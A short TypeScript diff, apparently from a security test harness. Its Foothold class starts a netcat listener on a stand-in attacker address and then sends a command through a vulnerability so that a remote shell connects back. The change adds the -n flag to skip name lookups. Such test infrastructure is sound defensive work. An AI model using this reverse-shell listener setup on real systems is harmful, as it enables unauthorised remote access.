@@ -33,7 +33,8 @@ export class Foothold {
   /** The shell that a command, run through the hole, opens to LISTENER. */
   static async by(cluster: Cluster, command: string): Promise<Foothold> {
     const listener = cluster.node('outside').start(
-      ['nc', '-v', '-l', ATTACKER_ADDRESS, String(LISTENER_PORT)],
+      // Without -n it asks the name server of the cluster who calls: nobody did that before.
+      ['nc', '-n', '-v', '-l', ATTACKER_ADDRESS, String(LISTENER_PORT)],
       { unit: 'attacker', input: true })
     await listener.says(/Listening on/, 'stderr')
     await throughHole(cluster, command)
